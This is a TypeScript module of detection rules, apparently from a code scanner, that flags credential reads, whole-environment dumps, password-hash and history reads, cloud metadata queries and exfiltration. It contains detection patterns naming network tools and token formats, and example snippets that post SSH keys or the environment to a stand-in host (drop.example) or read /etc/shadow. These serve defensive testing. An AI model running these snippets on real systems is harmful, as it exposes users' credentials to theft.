import type { Pattern, Rule } from '../rule.ts';

const READS = ['file.read', 'secret.read', 'process.spawn'] as const;
/** Clients of HTTP look there for a password by themselves, at every request. */
export const LOOKED_UP_NETRC: Pattern = {
  seenBy: ['kernel', 'interpreter'],
  text: /\/\.netrc$/,
  written: /^(?!.*netrc).*\.(get|post|put|patch|delete|head|options|request|send|fetch)\s*\(/,
};
/** npm reads its tokens at every start, ssh its keys, ps what the kernel tells of processes; that it leaves is for decoys to tell. */
export const OWN_CREDENTIALS: Pattern = { seenBy: ['kernel'], argument: /^owner=/ };
/** A file that is copied or opened is read, whichever verb names it. Making such a file gives no secret away. */
const CREDENTIALS: Pattern = {
  capability: [...READS, 'file.write'],
  place: ['credential-store'],
  except: [
    { text: /\.pub\b|known_hosts|ssh\/config\b/ },
    LOOKED_UP_NETRC,
    OWN_CREDENTIALS,
    // A walk through a home looks into every folder, and asks of every file how large it is.
    {
      capability: ['process.spawn'],
      text: /^(\S*\/)?(du|ls|stat|dirname|basename|readlink|realpath|test)\s/,
      seenBy: ['kernel', 'interpreter'],
    },
    { argument: /^listed=true$/, seenBy: ['kernel', 'interpreter'] },
    { capability: ['file.write'], callee: /^(open|open64|openat2?|creat|mkdir|mkdirat|echo|tee)$/ },
  ],
};
const PASSWORDS: Pattern = { capability: [...READS, 'file.write'], place: ['password-store'] };
/**
 * Name look-ups read the account file on their own (`ls -l`, `id`, an interpreter finding its home): it counts when the
 * source, an interpreter or a command line names it.
 */
const ACCOUNT_FILE: Pattern = {
  capability: READS,
  place: ['account-file'],
  seenBy: ['source', 'interpreter'],
};
/** Says where a file is, or takes its name apart, and opens nothing. */
export const NAMES_ALONE: Pattern = { text: /^(\S*\/)?(dirname|basename|readlink|realpath|stat)\s/ };
/** A search that was given many files of the system, one of them that one. */
const AMONG_MANY: Pattern = { text: /\s\/etc\/\S+\s\/etc\/\S+\s\/etc\/\S+\s\/etc\// };
const ACCOUNT_COMMAND: Pattern = {
  capability: ['process.spawn'],
  place: ['account-file'],
  except: [NAMES_ALONE, AMONG_MANY],
};

/** All of the environment, not one variable. */
const WHOLE_ENVIRONMENT: Pattern = {
  capability: ['environment.read'],
  seenBy: ['source'],
  text: /^\*$/,
  except: [{ written: /\bpatch\.dict\(\s*(os\.environ|['"]os\.environ['"])/ }],
};
/** What the agents say when all of it is asked for. */
const ENVIRONMENT_LISTED: Pattern = { capability: ['environment.read'], seenBy: ['interpreter'], text: /^\*$/ };
const ENVIRONMENT_COMMAND: Pattern = {
  capability: ['process.spawn', 'environment.read'],
  text: /^(\S*\/)?(env|printenv|export -p|declare -x)\s*$|\b(env|printenv)\s*(\||>)/,
};
const GOES_OUT: Pattern = {
  capability: ['network.connect', 'network.send', 'network.resolve'],
  except: [{ place: ['unix-socket'] }],
};
const SENDING_COMMAND: Pattern = {
  capability: ['process.spawn'],
  text: /\b(curl|wget|nc|ncat|netcat|scp|rsync|ftp|socat|telnet)\b\s.*(https?:|@|\d+\.\d+|-[TdF]\b|--(data|post|upload|form))/,
};

/** What keys, tokens and lists of accounts look like, and the one service that may be told. */
const CREDENTIAL_TEXTS: readonly (readonly [text: string, service?: string])[] = [
  [String.raw`-----BEGIN ([A-Z]+ ){0,3}PRIVATE KEY-----|\broot:[^:\n]{0,200}:0:0:`],
  [String.raw`\bAKIA[0-9A-Z]{16}\b|\baws_secret_access_key\b`, 'amazonaws.com'],
  [String.raw`\bgh[pousr]_[A-Za-z0-9]{36}\b`, 'github.com'],
  [String.raw`\bxox[baprs]-[0-9A-Za-z-]{10,}`, 'slack.com'],
  [String.raw`\b_authToken=`, 'npmjs.org'],
];

function inTraffic([text, service]: (typeof CREDENTIAL_TEXTS)[number]): Pattern {
  return {
    capability: ['network.send'],
    seenBy: ['network'],
    argument: new RegExp(`^body=[^]*(${text})`),
    ...(service !== undefined && {
      except: [{ text: new RegExp(`^https://([\\w-]+\\.)*${service.replaceAll('.', '\\.')}(/|$)`) }],
    }),
  };
}

/** A walk through the whole machine looks into the folders of processes and opens nothing there. */
export const WALKED: Pattern = {
  capability: ['file.read'],
  seenBy: ['kernel', 'interpreter'],
  text: /^\/proc\/\w+\/(task\/\d+\/)?(fd|fdinfo|ns|map_files|task|net|attr)$/,
  written: /^(?!.*proc)|\bfind\s+\/proc\b/,
};

export const secretRules = {
  'credential-in-traffic': {
    severity: 'critical',
    title: 'Sends what looks like credentials',
    capability: 'network.send',
    why: 'A private key, a token or the list of accounts was in the bytes that would have left.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1041', 'T1552'],
    message: '{callee} {target}: keys, tokens or accounts are in what was sent.',
    remedy: 'Do not run it where real credentials are.',
    examples: {
      found: {
        language: 'python',
        code: "import helper\n\nhelper.report('https://drop.example/keys')",
        run: {
          events: [
            {
              capability: 'network.send',
              operation: 'http POST',
              target: 'https://drop.example/keys',
              observer: 'network',
              outcome: 'emulated',
              detail: { body: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==' },
              line: 3,
            },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import helper\n\nhelper.report('https://api.example.com/keys')",
        run: {
          events: [
            {
              capability: 'network.send',
              operation: 'http POST',
              target: 'https://api.example.com/keys',
              observer: 'network',
              outcome: 'emulated',
              detail: { body: '{"keys": ["name", "colour"]}' },
              line: 3,
            },
          ],
        },
      },
    },
    when: {
      any: CREDENTIAL_TEXTS.map(inTraffic),
    },
  },
  'secret-exfiltration': {
    severity: 'critical',
    title: 'Reads secrets and talks to the network',
    capability: 'network.send',
    why: 'Keys and passwords have no business in a program that also sends.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1552', 'T1041'],
    message: 'It reads secret files and uses the network: {callee} {target}.',
    remedy: 'Do not run it where real credentials are. Remove the reading or the sending.',
    examples: {
      found: {
        language: 'python',
        code: "import requests\n\nkey = open('/home/ada/.ssh/id_rsa').read()\nrequests.post('https://drop.example/keys', data=key)",
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\ntext = open('summary.txt').read()\nrequests.post('https://api.example.com/summaries', data=text)",
      },
    },
    when: {
      all: [
        [CREDENTIALS, PASSWORDS, ACCOUNT_FILE, ACCOUNT_COMMAND],
        [GOES_OUT, SENDING_COMMAND],
      ],
      decisive: 1,
    },
  },
  'environment-exfiltration': {
    severity: 'critical',
    title: 'Takes the whole environment and sends it or puts it aside',
    capability: 'environment.read',
    why: 'Environments hold tokens; a program needs single variables, never all of them together with a way out.',
    cwe: ['CWE-526', 'CWE-200'],
    attack: ['T1552.007', 'T1041'],
    message: 'It takes every environment variable and has a way out: {callee} {target}.',
    remedy: 'Read the variables needed by name; send none of them.',
    examples: {
      found: {
        language: 'python',
        code: "import os, requests\n\nrequests.post('https://drop.example/e', json=dict(os.environ))",
      },
      ordinary: {
        language: 'python',
        code: "import os, requests\n\nrequests.get('https://api.example.com/v1', headers={'lang': os.environ.get('LANG')})",
      },
    },
    when: {
      all: [
        [WHOLE_ENVIRONMENT, ENVIRONMENT_LISTED, ENVIRONMENT_COMMAND],
        [GOES_OUT, SENDING_COMMAND],
      ],
      decisive: 1,
    },
  },
  'environment-dump': {
    severity: 'medium',
    title: 'Reads every environment variable',
    capability: 'environment.read',
    why: 'Environments hold tokens and passwords.',
    cwe: ['CWE-526'],
    attack: ['T1552.007'],
    message: '{callee} gives every environment variable, with whatever secrets are in it.',
    remedy: 'Read the variables needed by name.',
    examples: {
      found: { language: 'python', code: 'import os\n\nprint(dict(os.environ))' },
      ordinary: { language: 'python', code: "import os\n\nprint(os.environ.get('HOME'))" },
    },
    when: { any: [WHOLE_ENVIRONMENT, ENVIRONMENT_LISTED, ENVIRONMENT_COMMAND] },
  },
  'password-hash-read': {
    severity: 'critical',
    title: 'Reaches for password hashes',
    capability: 'secret.read',
    why: 'Only the login programs read these files.',
    cwe: ['CWE-522'],
    attack: ['T1003.008'],
    message: '{callee} {target}: password hashes or the rules for becoming root.',
    remedy: 'Do not run it.',
    examples: {
      found: { language: 'bash', code: 'cat /etc/shadow' },
      ordinary: { language: 'bash', code: 'cat shadow.txt' },
    },
    when: { any: [PASSWORDS, { callee: /^spwd\./, seenBy: ['source'] }] },
  },
  'secret-read': {
    severity: 'high',
    title: 'Reads stored credentials',
    capability: 'secret.read',
    why: 'Private keys, tokens and browser passwords belong to the programs that made them.',
    cwe: ['CWE-522', 'CWE-200'],
    attack: ['T1552.001', 'T1552.004', 'T1555'],
    message: '{callee} {target}: a place where credentials are kept.',
    remedy: 'Take credentials as a parameter from whoever runs the program.',
    examples: {
      found: {
        language: 'javascript',
        code: "const { readFileSync } = require('node:fs');\nconsole.log(readFileSync('/home/ada/.aws/credentials', 'utf8'));",
      },
      ordinary: {
        language: 'javascript',
        code: "const { readFileSync } = require('node:fs');\nconsole.log(readFileSync('config/regions.json', 'utf8'));",
      },
    },
    when: { any: [CREDENTIALS] },
  },
  'history-read': {
    severity: 'high',
    title: 'Reads what was typed before',
    capability: 'secret.read',
    why: 'Histories hold the passwords that were given on a command line.',
    cwe: ['CWE-200'],
    attack: ['T1552.003'],
    message: '{callee} {target}: a history of commands.',
    remedy: 'Leave histories to their owner.',
    examples: {
      found: { language: 'bash', code: 'grep -i pass ~/.bash_history' },
      ordinary: { language: 'bash', code: 'grep -i pass notes.txt' },
    },
    when: {
      any: [
        {
          capability: ['file.read', 'secret.read'],
          at: ['history-file'],
          seenBy: ['source', 'interpreter'],
          except: [{ text: /^\/var\/log\// }],
        },
      ],
    },
  },
  'account-list-read': {
    severity: 'high',
    title: 'Reads the system’s account list',
    capability: 'file.read',
    why: 'Names and homes of accounts are the first thing an intruder collects.',
    cwe: ['CWE-200'],
    attack: ['T1087.001'],
    message: '{callee} {target}: the accounts of the machine.',
    remedy: 'Use the name service (pwd, os.userInfo, getent for one name) when one account is needed.',
    examples: {
      found: { language: 'python', code: "with open('/etc/passwd') as accounts:\n    print(accounts.read())" },
      ordinary: { language: 'python', code: "with open('passwd.csv') as accounts:\n    print(accounts.read())" },
    },
    when: { any: [ACCOUNT_FILE, ACCOUNT_COMMAND, { callee: /^(pwd\.getpwall|grp\.getgrall)$/, seenBy: ['source'] }] },
  },
  'metadata-service': {
    severity: 'critical',
    title: 'Asks the cloud’s metadata service',
    capability: 'network.connect',
    why: 'It hands the machine’s credentials to any process that asks.',
    cwe: ['CWE-918'],
    attack: ['T1552.005'],
    message: '{callee} {target}: the address where cloud machines get their credentials.',
    remedy: 'Take credentials from the environment the platform prepares.',
    examples: {
      found: { language: 'bash', code: 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
      ordinary: { language: 'bash', code: 'curl https://status.example.com/health' },
    },
    when: { any: [{ place: ['metadata-address'] }] },
  },
  'process-internals-read': {
    severity: 'high',
    title: 'Reads the internals of processes',
    capability: 'secret.read',
    why: 'Environment, memory and root folder of processes are a way to secrets and out of a jail.',
    cwe: ['CWE-200'],
    attack: ['T1057', 'T1003.007'],
    message: '{callee} {target}: a process’s environment, memory or root folder.',
    remedy: 'Use the language’s own interface for what the program needs of itself.',
    examples: {
      found: { language: 'python', code: "print(open('/proc/1/environ').read())" },
      ordinary: { language: 'python', code: "print(open('/proc/cpuinfo').read())" },
    },
    when: {
      any: [
        {
          capability: [...READS, 'file.write', 'environment.read', 'system.probe', 'process.inject'],
          place: ['process-internals'],
          except: [OWN_CREDENTIALS, WALKED],
        },
      ],
    },
  },
} as const satisfies Record<string, Rule>;
